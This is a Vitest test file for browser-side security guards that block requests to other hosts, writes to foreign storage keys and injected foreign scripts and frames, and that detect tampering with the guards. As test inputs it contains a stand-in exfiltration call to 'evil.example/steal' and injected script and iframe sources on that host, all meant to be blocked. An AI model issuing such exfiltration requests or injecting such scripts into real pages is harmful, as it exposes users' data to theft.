import { beforeAll, describe, expect, it, vi } from "vitest";
import { installGuards } from "./guards.ts";
import { type Incident, integrityCheckMs } from "./rules.ts";

const incidents: Incident[] = [];
const network = vi.fn<typeof fetch>(async () => new Response("ok"));
const types = () => incidents.map(({ type }) => type);

beforeAll(() => {
  vi.useFakeTimers({ toFake: ["setInterval"] });
  window.fetch = network;
  installGuards((incident) => incidents.push(incident));
});

describe("the client guards", () => {
  it("block requests to other hosts and let our own through", async () => {
    await expect(fetch("https://evil.example/steal?x=1")).rejects.toThrow("Request blocked by security policy");
    expect(network).not.toHaveBeenCalled();
    expect(await (await fetch("/api/stats")).text()).toBe("ok");
    expect(incidents).toContainEqual({ type: "request_blocked", severity: "high", details: { address: "https://evil.example/steal" } });
  });

  it("silently block writes to other keys", () => {
    localStorage.setItem("evil", "1");
    localStorage.setItem("gbh_fine", "1");
    expect(localStorage.getItem("evil")).toBeNull();
    expect(localStorage.getItem("gbh_fine")).toBe("1");
    expect(types()).toContain("storage_blocked");
  });

  it("remove foreign scripts and frames at any depth, and leave our own", async () => {
    const box = document.createElement("div");
    box.innerHTML = '<p><iframe src="https://evil.example/f"></iframe></p><script src="/assets/own.js"></script>';
    document.body.append(box);
    const script = document.createElement("script");
    script.src = "https://evil.example/x.js";
    document.head.append(script);
    await vi.waitFor(() => expect(document.querySelectorAll("script[src], iframe[src]")).toHaveLength(1));
    expect(types().filter((type) => type === "foreign_element_removed")).toHaveLength(2);
  });

  it("notice within five minutes that they were removed", () => {
    window.fetch = network;
    vi.advanceTimersByTime(integrityCheckMs);
    expect(incidents).toContainEqual({ type: "integrity_violation", severity: "high", details: { guard: "fetch" } });
  });
});
